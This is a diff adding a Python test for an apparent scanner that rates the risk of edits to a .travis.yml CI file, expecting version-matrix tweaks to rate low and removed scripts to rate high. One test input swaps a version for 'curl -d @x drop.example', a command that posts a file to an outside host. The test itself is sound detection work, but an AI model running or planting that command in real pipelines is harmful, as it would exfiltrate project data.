@@ -254,6 +254,16 @@ def test_pipelines_of_other_systems_know_versions_only() -> None:
     assert _worst(_found(base.replace("- pytest", "- exit 0"), base, path)) == "high"
 
 
+def test_a_list_of_versions_of_another_system_is_a_matrix() -> None:
+    base = "python:\n  - '2.7'\n  - 3.3\n  - pypy3\nscript:\n  - tox\n  - '7z'\n"
+    path = ".travis.yml"
+    assert _worst(_found(base.replace("  - 3.3\n", ""), base, path)) == "low"
+    assert _worst(_found(base.replace("pypy3", "3.12-dev"), base, path)) == "low"
+    assert _worst(_found(base.replace("3.3", "curl -d @x drop.example"), base, path)) == "high"
+    assert _worst(_found(base.replace("  - tox\n", ""), base, path)) == "high"
+    assert _worst(_found(f"{base}after_script:\n  - '3.4'\n", base, path)) == "low"
+
+
 def test_owners_comments_and_layout_are_low() -> None:
     def worst(head: str, base: str) -> str:
         request = make_request({"CODEOWNERS": head}, {"CODEOWNERS": base})
